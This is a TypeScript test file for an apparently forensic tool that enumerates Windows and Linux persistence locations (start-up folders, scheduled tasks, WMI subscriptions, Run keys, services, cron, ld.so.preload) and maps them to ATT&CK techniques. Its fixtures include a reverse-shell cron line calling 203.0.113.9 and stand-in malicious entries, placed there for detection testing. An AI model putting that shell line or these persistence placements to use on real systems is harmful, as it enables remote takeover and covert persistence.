import assert from 'node:assert/strict'
import { test } from 'node:test'

import { windowsHost } from '../../../test/support/examined-host.ts'
import { binary, dword, key, merged, sz, writeHive } from '../../../test/support/hive-writer.ts'
import { memoryTree } from '../../../test/support/memory-tree.ts'
import { volumeInfo, writeShortcut } from '../../../test/support/shortcut-writer.ts'
import { smallProgram } from '../../../test/support/signed-program.ts'
import { wmiSubscription } from '../../../test/support/wmi-subscription.ts'
import { loadImportTable } from '../../evidence/import-risk/index.ts'
import { RootStore } from '../../evidence/authenticode/index.ts'
import { Notes } from '../../evidence/note.ts'
import type { EvidenceTree } from '../../evidence/tree.ts'
import { startsOfTree, type TreeStart } from './tree.ts'

type Files = Parameters<typeof memoryTree>[1]

function starts(tree: EvidenceTree, notes = new Notes()): TreeStart[] {
  const options = { roots: new RootStore(), table: loadImportTable(), nowMs: 0, notes, wants: () => true }
  return [...startsOfTree(tree, options)]
}

function told(files: Files, category: string): string[] {
  return starts(memoryTree('windows', files))
    .filter((entry) => entry.category === category)
    .map((entry) =>
      [entry.entry, entry.command, entry.image, entry.user ?? '', entry.isEnabled ? 'on' : 'off'].join(' | '),
    )
}

const startup = '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp'
const ofBob = '/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup'
const switches = 'Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\StartupFolder'

test('start-up folders tell what their shortcuts lead to, and what is switched off', () => {
  const link = (file: string, given?: string): Buffer =>
    writeShortcut({
      linkInfo: volumeInfo('C:\\Tools\\', 'DISK', file),
      texts: [undefined, undefined, undefined, given],
    })
  const files = {
    '/Users/bob/NTUSER.DAT': writeHive({
      name: 'ROOT',
      subkeys: merged([
        key('Control Panel'),
        key(`Software\\${switches}`, [binary('off.lnk', Buffer.from([3, 0, 0]))]),
      ]),
    }),
    [`${startup}/desktop.ini`]: '[.ShellClassInfo]',
    [`${startup}/a.lnk`]: link('rundll32.exe', 'C:\\x\\evil.dll,Run'),
    [`${ofBob}/off.lnk`]: link('chat.exe'),
    [`${ofBob}/x.vbs`]: 'MsgBox 1',
    [`${ofBob}/site.url`]: '[InternetShortcut]\r\nURL=file:///C:/x/y.hta\r\n',
    [`${ofBob}/broken.lnk`]: 'no shortcut',
  }
  assert.deepEqual(told(files, 'Logon'), [
    `desktop.ini | C:${startup.replaceAll('/', '\\')}\\desktop.ini | C:${startup.replaceAll('/', '\\')}\\desktop.ini |  | on`,
    'a.lnk | C:\\Tools\\rundll32.exe C:\\x\\evil.dll,Run | C:\\x\\evil.dll |  | on',
    'off.lnk | C:\\Tools\\chat.exe | C:\\Tools\\chat.exe | bob | off',
    `x.vbs | C:${ofBob.replaceAll('/', '\\')}\\x.vbs | C:${ofBob.replaceAll('/', '\\')}\\x.vbs | bob | on`,
    'site.url | file:///C:/x/y.hta | C:/x/y.hta | bob | on',
    `broken.lnk | C:${ofBob.replaceAll('/', '\\')}\\broken.lnk | C:${ofBob.replaceAll('/', '\\')}\\broken.lnk | bob | on`,
  ])
  const usual = starts(memoryTree('windows', files)).filter(({ isUsual }) => isUsual)
  assert.deepEqual(
    usual.map(({ entry }) => entry),
    ['desktop.ini'],
  )
})

test('scripts of group policy lie where their event says, with parameters; both encodings', () => {
  const folder = '/Windows/System32/GroupPolicy'
  const machine =
    '\r\n[Startup]\r\n0CmdLine=boot.bat\r\n0Parameters=/q\r\n1CmdLine=\\\\dc\\share\\x.cmd\r\n[Shutdown]\r\n0CmdLine=\r\n'
  const files = {
    [`${folder}/Machine/Scripts/scripts.ini`]: Buffer.from(`\ufeff${machine}`, 'utf16le'),
    [`${folder}/User/Scripts/psscripts.ini`]: '[Logon]\n0CmdLine=C:\\a b\\c.ps1\n',
  }
  const scripts = 'C:\\Windows\\System32\\GroupPolicy\\Machine\\Scripts'
  assert.deepEqual(told(files, 'Logon'), [
    `startup 0 | boot.bat /q | ${scripts}\\startup\\boot.bat |  | on`,
    'startup 1 | \\\\dc\\share\\x.cmd | \\\\dc\\share\\x.cmd |  | on',
    'logon 0 | C:\\a b\\c.ps1 | C:\\a b\\c.ps1 |  | on',
  ])
})

test('profiles of PowerShell, templates of Office, win.ini and scripts of the setup are found', () => {
  const files = {
    '/Users/bob/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1': 'iex x',
    '/Windows/System32/WindowsPowerShell/v1.0/profile.ps1': 'x',
    '/Users/bob/AppData/Roaming/Microsoft/Word/STARTUP/a.dotm': 'x',
    '/Users/bob/AppData/Roaming/Microsoft/Templates/Normal.dotm': 'x',
    '/Program Files/Microsoft Office/root/Office16/XLSTART/b.xlam': 'x',
    '/Windows/win.ini': '; for 16-bit app support\r\n[windows]\r\nLoad=C:\\l.exe\r\nrun=\r\n',
    '/Windows/Setup/Scripts/SetupComplete.cmd': 'start C:\\evil.exe',
    '/autoexec.bat': '@echo off\r\nREM nothing\r\n',
  }
  const found = starts(memoryTree('windows', files))
  assert.deepEqual(
    found.map(({ category, entry, isUsual, technique }) => [category, entry, isUsual, technique]),
    [
      ['Logon', 'profile.ps1', false, 'T1546.013'],
      ['Logon', 'Microsoft.PowerShell_profile.ps1', false, 'T1546.013'],
      ['Office', 'b.xlam', false, 'T1137'],
      ['Office', 'a.dotm', false, 'T1137'],
      ['Office', 'Normal.dotm', true, 'T1137.001'],
      ['Logon', 'load', false, 'T1547.001'],
      ['Boot Execute', 'autoexec.bat', true, 'T1547'],
      ['Boot Execute', 'SetupComplete.cmd', false, 'T1547'],
    ],
  )
  assert.equal(found.find(({ entry }) => entry === 'load')?.image, 'C:\\l.exe')
})

const task = (command: string, enabled = true): string =>
  `<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Settings><Enabled>${enabled}</Enabled></Settings><Actions><Exec><Command>${command}</Command></Exec></Actions></Task>`

test('a task that stands in the registry and as a file is told once, and the file says whether it is on', () => {
  const hidden = 'C:\\Users\\bob\\AppData\\evil.exe'
  const both = (enabled: boolean): string[] =>
    told(
      {
        ...windowsHost(),
        '/Windows/System32/Tasks/Update': task('C:\\u.exe'),
        '/Windows/System32/Tasks/Hidden': task(hidden, enabled),
      },
      'Scheduled Tasks',
    )
  assert.deepEqual(both(true), [
    `\\Hidden | ${hidden} | ${hidden} |  | on`,
    '\\Update | C:\\u.exe | C:\\u.exe |  | on',
  ])
  assert.match(both(false)[0] ?? '', /off$/)
  const hiddenTask = task('x.exe').replace('<Settings>', '<Settings><Hidden>true</Hidden>')
  const [found] = starts(memoryTree('windows', { '/Windows/System32/Tasks/a/b': hiddenTask }))
  assert.deepEqual([found?.entry, found?.technique], ['\\a\\b', 'T1564'])
})

test('a subscription of WMI is told with what it does; a consumer that nothing calls is off', () => {
  const at = '/Windows/System32/wbem/Repository/OBJECTS.DATA'
  const command = 'C:\\x\\evil.exe -s'
  const [bound] = told({ [at]: wmiSubscription('Updater', command) }, 'WMI')
  assert.match(bound ?? '', /^Updater \| C:\\x\\evil\.exe -s \[SELECT .*\] \| C:\\x\\evil\.exe \|  \| on$/)
  assert.deepEqual(told({ [at]: wmiSubscription('Updater', command, false) }, 'WMI'), [
    'Updater | C:\\x\\evil.exe -s | C:\\x\\evil.exe |  | off',
  ])
})

test('programs are found with the variables of their user; missing is said only of a whole Windows', () => {
  const run = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run'
  const files = {
    '/Users/Bob/NTUSER.DAT': writeHive({
      name: 'ROOT',
      subkeys: merged([
        key('Control Panel'),
        key('Volatile Environment', [sz('USERNAME', 'robert')]),
        key(run, [
          sz('There', '%APPDATA%\\there.exe'),
          sz('Gone', '%LOCALAPPDATA%\\gone.exe'),
          sz('Bare', 'tool'),
          sz('Share', '\\\\server\\x.exe'),
          sz('Other', 'D:\\x.exe'),
        ]),
      ]),
    }),
    '/Users/Bob/AppData/Roaming/THERE.EXE': smallProgram(),
    '/Windows/tool.exe': smallProgram(),
  }
  const states = (more: Files): (readonly (string | undefined)[])[] =>
    starts(memoryTree('windows', { ...files, ...more })).map(({ entry, program, isMissing }) => [
      entry,
      program?.path ?? (isMissing ? 'missing' : undefined),
    ])
  const there = [
    ['There', '/Users/Bob/AppData/Roaming/THERE.EXE'],
    ['Bare', '/Windows/tool.exe'],
    ['Share', undefined],
    ['Other', undefined],
  ] as const
  assert.deepEqual(states({}), there.toSpliced(1, 0, ['Gone', undefined] as never))
  assert.deepEqual(
    states({ '/Windows/System32/ntdll.dll': smallProgram() }),
    there.toSpliced(1, 0, ['Gone', 'missing'] as never),
  )
})

test('services and drivers have their programs too', () => {
  const files = {
    '/Windows/System32/config/SYSTEM': writeHive({
      name: 'ROOT',
      subkeys: merged([
        key('Select', [dword('Current', 1)]),
        key('ControlSet001\\Services\\drv', [dword('Type', 1), dword('Start', 0)]),
        key('ControlSet001\\Services\\lib', [
          dword('Type', 0x20),
          dword('Start', 2),
          sz('ImagePath', '%SystemRoot%\\system32\\svchost.exe -k x'),
        ]),
        key('ControlSet001\\Services\\lib\\Parameters', [sz('ServiceDll', 'C:\\x\\lib.dll')]),
      ]),
    }),
    '/Windows/System32/drivers/drv.sys': smallProgram(),
    '/x/lib.dll': smallProgram(),
  }
  assert.deepEqual(
    starts(memoryTree('windows', files)).map(({ category, program }) => [category, program?.path]),
    [
      ['Drivers', '/Windows/System32/drivers/drv.sys'],
      ['Services', '/x/lib.dll'],
    ],
  )
})

test('of a Linux each line of a schedule and each script is told, names are no others in another case', () => {
  const found = starts(
    memoryTree('linux', {
      '/etc/cron.d/sync': '# x\n*/5 * * * * root /usr/bin/a --x\n',
      '/etc/cron.d/SYNC': '@reboot root /tmp/b\nMAILTO=root\n',
      '/etc/cron.daily/job': '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443\n',
      '/etc/cron.daily/.placeholder': 'x',
      '/etc/systemd/system/deep/er/x.service': '[Service]\nExecStart=-/opt/x -v\nType=simple\n',
      '/etc/ld.so.preload': '/usr/lib/libhide.so\n',
      '/home/kim/.config/autostart/k.desktop': '[Desktop Entry]\nExec=/home/kim/k\n',
      '/home/kim/.ssh/authorized_keys': 'ssh-rsa AAAAB3NzaC1yc2EAAAA kim@x\n',
      '/var/spool/cron/crontabs/kim': '0 1 * * * ~/run\n',
      '/etc/udev/rules.d/1.rules': 'ACTION=="add", RUN+="/bin/x"\nSUBSYSTEM=="net"\n',
      '/usr/bin/a': 'program',
    }),
  )
  assert.deepEqual(
    found
      .map(({ category, key: path, image, user = '' }) => [category, path, image, user].join(' | '))
      .toSorted(),
    [
      'Boot | /etc/udev/rules.d/1.rules | /bin/x | ',
      'Cron | /etc/cron.d/SYNC | /tmp/b | ',
      'Cron | /etc/cron.d/sync | /usr/bin/a | ',
      'Cron | /etc/cron.daily/job | /etc/cron.daily/job | ',
      'Cron | /var/spool/cron/crontabs/kim |  | kim',
      'Logon | /home/kim/.config/autostart/k.desktop | /home/kim/k | kim',
      'Preload | /etc/ld.so.preload | /usr/lib/libhide.so | ',
      'SSH keys | /home/kim/.ssh/authorized_keys |  | kim',
      'Units | /etc/systemd/system/deep/er/x.service | /opt/x | ',
    ],
  )
  assert.match(found.find(({ image }) => image === '/usr/bin/a')?.program?.sha256 ?? '', /^[0-9a-f]{64}$/)
  assert.ok(found.every(({ isMissing }) => !isMissing))
})
